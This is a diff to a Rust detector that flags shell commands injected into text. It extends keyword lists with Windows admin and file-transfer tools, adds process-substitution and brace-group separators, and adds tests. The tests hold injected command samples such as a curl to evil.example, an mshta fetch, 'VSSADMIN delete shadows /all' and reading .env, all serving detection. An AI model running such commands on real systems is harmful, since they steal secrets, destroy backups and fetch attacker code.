@@ -10,6 +10,9 @@ use super::View;
 /// Commands that are almost never English words: any separator before them is enough.
 const UNAMBIGUOUS: &[&str] = &[
     "whoami",
+    "vssadmin",
+    "bcdedit",
+    "wevtutil",
     "uname",
     "ifconfig",
     "ipconfig",
@@ -83,6 +86,9 @@ const WINDOWS: &[&str] = &[
     "taskkill",
     "certutil",
     "bitsadmin",
+    "vssadmin",
+    "bcdedit",
+    "wevtutil",
     "wmic",
     "tracert",
     "nbtstat",
@@ -160,6 +166,8 @@ const NETWORK: &[&str] = &[
     "traceroute",
     "tracert",
     "socat",
+    "scp",
+    "rsync",
 ];
 
 /// `evil.example`, `a.b-c.example`: two or more labels, the last one letters only.
@@ -248,7 +256,10 @@ fn shell_shaped(command: &str, first: &str, args: &str) -> bool {
     if numeric {
         return TIMING.contains(&command) || first.contains('.');
     }
-    if NETWORK.contains(&command) && host_name_shaped(first) {
+    // A host, or a login at one (`ssh root@10.0.0.1`).
+    let host = first.rsplit_once('@').map_or(first, |(_, host)| host);
+    let address = host.split('.').count() == 4 && host.split('.').all(|n| n.parse::<u8>().is_ok());
+    if NETWORK.contains(&command) && (host_name_shaped(host) || address) {
         return true;
     }
     // `echo` output redirected or piped, e.g. `echo x > file`.
@@ -272,8 +283,9 @@ fn separator_before(text: &str, end: usize) -> Option<usize> {
     }
     match i.checked_sub(1).map(|p| bytes[p]) {
         None | Some(b'\n') => Some(word_start),
-        Some(b'(') if i >= 2 && bytes[i - 2] == b'$' => Some(i - 2),
-        Some(b';' | b'&' | b'|' | b'`' | b'\'' | b'"' | b'(' | b')' | b'@') => Some(i - 1),
+        // `$(`, and process substitution `<(` / `>(`.
+        Some(b'(') if i >= 2 && matches!(bytes[i - 2], b'$' | b'<' | b'>') => Some(i - 2),
+        Some(b';' | b'&' | b'|' | b'`' | b'\'' | b'"' | b'(' | b')' | b'@' | b'{') => Some(i - 1),
         _ => None,
     }
 }
@@ -285,8 +297,9 @@ fn separator_at(text: &str, start: usize) -> (Separator, usize) {
     let rest = &text[start..];
     let first = rest.as_bytes().first().copied().unwrap_or(b' ');
     let kind = match first {
-        b';' | b'|' | b'&' | b'`' | b'\n' => Separator::Shell,
-        b'$' => Separator::Shell,
+        // A brace group (`{ id; }`) runs its commands like a line.
+        b';' | b'|' | b'&' | b'`' | b'\n' | b'{' => Separator::Shell,
+        b'$' | b'<' | b'>' => Separator::Shell,
         b'\'' | b'"' | b'(' | b')' => Separator::Quote,
         _ => Separator::Start,
     };
@@ -502,6 +515,12 @@ mod tests {
         assert!(check("x|whoami#", 1, "whoami"));
         assert!(check("x;cat .env", 1, "cat"));
         assert!(check("& mshta http://evil.example/x.hta", 0, "mshta"));
+        // Process substitution, a brace group, a login at an address, a Windows admin tool.
+        assert!(check("cat <(id)", 4, "id"));
+        assert!(check("x >(curl evil.example)", 2, "curl"));
+        assert!(check("a;{ whoami; }", 2, "whoami"));
+        assert!(check("x; ssh root@10.0.0.1", 1, "ssh"));
+        assert!(check("a&VSSADMIN delete shadows /all", 1, "VSSADMIN"));
     }
 
     #[test]
